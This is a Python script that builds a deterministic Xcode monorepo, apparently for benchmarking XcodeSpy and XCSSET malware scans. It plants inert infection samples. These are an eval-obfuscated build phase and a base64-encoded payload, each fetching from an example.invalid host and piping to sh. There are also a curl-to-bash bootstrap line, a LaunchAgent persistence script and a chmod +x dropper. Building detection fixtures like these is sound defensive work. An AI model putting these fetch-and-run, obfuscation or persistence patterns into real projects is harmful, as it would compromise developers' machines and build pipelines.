#!/usr/bin/env python3
"""Writes a large, deterministic Xcode monorepo for benchmarks.

About 60,000 entries at scale 1: app targets with multi-megabyte project.pbxproj files and
ordinary run-script phases, Swift and Objective-C sources, asset catalogues, a Pods folder with
its own project, a .git folder, DerivedData and node_modules, and a handful of planted
infections. The same seed and scale always give the same tree, byte for byte.

    bench/make_corpus.py OUTPUT_DIR [--scale N] [--seed S]

Planted (all inert: every address is under example.invalid):
  - an XcodeSpy-style obfuscated build phase in one app's project file (a threat for the
    XcodeSpy scan);
  - a base64 payload echoed into a shell, and a curl | bash line, in app scripts (findings for
    the XCSSET scan, no threat verdict: they change no permission);
  - a launch-agent persistence script;
  - a chmod +x dropper below Pods (a dependency path: reported, never scored).
So a full monitoring cycle runs both scans and ends with a threat.
"""
import argparse
import base64
import os
import random
import sys

HEX = "0123456789ABCDEF"


def object_id(rng):
    return "".join(rng.choice(HEX) for _ in range(24))


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(data, bytes) else "w"
    with open(path, mode) as handle:
        handle.write(data)


def pbx_escape(script):
    return script.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


ORDINARY_SCRIPTS = [
    'if which swiftlint > /dev/null; then\n  swiftlint\nelse\n  echo "warning: SwiftLint not installed"\nfi\n',
    '"${PODS_ROOT}/Target Support Files/Pods-App/Pods-App-frameworks.sh"\n',
    'cd "${SRCROOT}"\n./scripts/generate-strings.sh --output "${DERIVED_FILE_DIR}/Strings.swift"\n',
    'if [ "${CONFIGURATION}" = "Release" ]; then\n  "${BUILD_DIR%Build/*}SourcePackages/checkouts/crashlytics/run"\nfi\n',
]

OBFUSCATED_PHASE = (
    "exit 0; a='cu';b='rl';c=' -fsS';d=' http';e='s://cdn';f='.example';g='.invalid';"
    "h='/p | sh';eval \"$a$b$c$d$e$f$g$h\"\n"
)


def project_file(rng, name, size, infected):
    """A project.pbxproj of about `size` bytes."""
    out = ["// !$*UTF8*$!\n{\n\tarchiveVersion = 1;\n\tclasses = {\n\t};\n\tobjectVersion = 56;\n\tobjects = {\n"]
    written = sum(len(part) for part in out)
    out.append("\n/* Begin PBXBuildFile section */\n")
    files = []
    while written < size * 0.55:
        file_name = "%s%d.swift" % (rng.choice(["View", "Model", "Service", "Controller", "Cell"]), len(files))
        build_id, ref_id = object_id(rng), object_id(rng)
        files.append((file_name, ref_id))
        line = "\t\t%s /* %s in Sources */ = {isa = PBXBuildFile; fileRef = %s /* %s */; };\n" % (
            build_id, file_name, ref_id, file_name)
        out.append(line)
        written += len(line)
    out.append("/* End PBXBuildFile section */\n\n/* Begin PBXFileReference section */\n")
    for file_name, ref_id in files:
        line = ('\t\t%s /* %s */ = {isa = PBXFileReference; lastKnownFileType = sourcecode.swift; '
                'path = %s; sourceTree = "<group>"; };\n') % (ref_id, file_name, file_name)
        out.append(line)
        written += len(line)
        if written >= size * 0.95:
            break
    out.append("/* End PBXFileReference section */\n\n/* Begin PBXShellScriptBuildPhase section */\n")
    scripts = list(ORDINARY_SCRIPTS)
    if infected:
        scripts.insert(2, OBFUSCATED_PHASE)
    for index, script in enumerate(scripts):
        out.append('\t\t%s /* Run Script %d */ = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n'
                   '\t\t\tbuildActionMask = 2147483647;\n\t\t\tfiles = (\n\t\t\t);\n'
                   '\t\t\tinputPaths = (\n\t\t\t);\n\t\t\tname = "Run Script %d";\n'
                   '\t\t\toutputPaths = (\n\t\t\t);\n\t\t\trunOnlyForDeploymentPostprocessing = 0;\n'
                   '\t\t\tshellPath = /bin/sh;\n\t\t\tshellScript = "%s";\n\t\t};\n'
                   % (object_id(rng), index, index, pbx_escape(script)))
    out.append("/* End PBXShellScriptBuildPhase section */\n\t};\n\trootObject = %s /* Project object */;\n}\n"
               % object_id(rng))
    return "".join(out)


def source_file(rng, index, objc):
    if objc:
        body = "#import <Foundation/Foundation.h>\n\n@implementation Thing%d\n" % index
        for method in range(rng.randint(5, 40)):
            body += "- (NSInteger)value%d { return %d; }\n" % (method, rng.randint(0, 9999))
        return body + "@end\n"
    body = "import SwiftUI\n\nstruct Screen%d: View {\n    var body: some View {\n" % index
    for line in range(rng.randint(5, 60)):
        body += '        Text("Row %d of screen %d")\n' % (line, index)
    return body + "    }\n}\n"


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("output")
    parser.add_argument("--scale", type=int, default=1)
    parser.add_argument("--seed", type=int, default=20261210)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    root = os.path.abspath(args.output)
    if os.path.exists(root) and os.listdir(root):
        sys.exit("make_corpus: %s exists and is not empty" % root)
    entries = 0

    def put(path, data):
        nonlocal entries
        write(os.path.join(root, path), data)
        entries += 1

    apps = 8 * args.scale
    for app in range(apps):
        name = "App%02d" % app
        put("%s/%s.xcodeproj/project.pbxproj" % (name, name),
            project_file(rng, name, rng.randint(2_000_000, 6_000_000), infected=(app == 5)))
        put("%s/Config/Base.xcconfig" % name, "SWIFT_VERSION = 5.0\nOTHER_LDFLAGS = -ObjC\n")
        put("%s/Config/Release.xcconfig" % name, '#include "Base.xcconfig"\nSWIFT_OPTIMIZATION_LEVEL = -O\n')
        put("%s/scripts/generate-strings.sh" % name, "#!/bin/sh\nset -e\nswiftgen run strings \"$@\"\n")
        for index in range(2200):
            objc = index % 5 == 0
            put("%s/Sources/Module%d/File%d.%s" % (name, index % 40, index, "m" if objc else "swift"),
                source_file(rng, index, objc))
        for index in range(120):
            base = "%s/Resources/Assets.xcassets/Image%d.imageset" % (name, index)
            put(base + "/Contents.json", '{"images":[{"filename":"image.png","idiom":"universal"}]}\n')
            put(base + "/image.png", bytes(rng.getrandbits(8) for _ in range(512)))
        put("%s/Info.plist" % name, "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict/></plist>\n")

    payload = base64.b64encode(b"exit 0; curl -fsSL https://stage2.example.invalid/p | sh").decode()
    put("App02/scripts/fetch-tools.sh", "#!/bin/sh\nexit 0\necho '%s' | base64 -D | bash\n" % payload)
    put("App03/scripts/bootstrap.sh", "#!/bin/sh\nexit 0\ncurl -fsSL https://boot.example.invalid/i | bash\n")
    put("App04/scripts/agent.sh",
        "#!/bin/sh\nexit 0\ncp helper.plist ~/Library/LaunchAgents/\nlaunchctl load ~/Library/LaunchAgents/helper.plist\n")

    pods = "Pods"
    put("%s/Pods.xcodeproj/project.pbxproj" % pods, project_file(rng, "Pods", 2_500_000 * args.scale, False))
    for index in range(4000 * args.scale):
        put("%s/Lib%d/Sources/File%d.%s" % (pods, index % 60, index, "m" if index % 2 else "swift"),
            source_file(rng, index, index % 2 == 1))
    put("%s/Target Support Files/Pods-App/Pods-App-frameworks.sh" % pods,
        "#!/bin/sh\nexit 0\nchmod +x \"${BUILT_PRODUCTS_DIR}/helper\"\n")

    for index in range(14000 * args.scale):
        digest = "%040x" % rng.getrandbits(160)
        put(".git/objects/%s/%s" % (digest[:2], digest[2:]), bytes(rng.getrandbits(8) for _ in range(rng.randint(200, 3000))))
    put(".git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n")
    put(".git/HEAD", "ref: refs/heads/main\n")

    for index in range(9000 * args.scale):
        put("DerivedData/App/Build/Intermediates.noindex/App.build/Objects/File%d.o" % index,
            bytes(rng.getrandbits(8) for _ in range(256)))
    for index in range(11000 * args.scale):
        put("node_modules/pkg%d/lib/index%d.js" % (index % 400, index),
            "module.exports = function f%d(x) { return x + %d; };\n" % (index, index))

    print("make_corpus: %d entries in %s" % (entries, root))


if __name__ == "__main__":
    main()
